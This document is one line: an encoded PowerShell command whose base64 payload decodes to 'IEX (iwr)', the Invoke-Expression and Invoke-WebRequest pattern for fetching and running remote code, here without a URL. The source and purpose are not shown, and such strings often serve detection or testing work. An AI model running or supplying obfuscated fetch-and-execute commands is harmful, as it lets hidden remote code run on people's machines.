powershell -NoProfile -enc SQBFAFgAIAAoAGkAdwByACkA
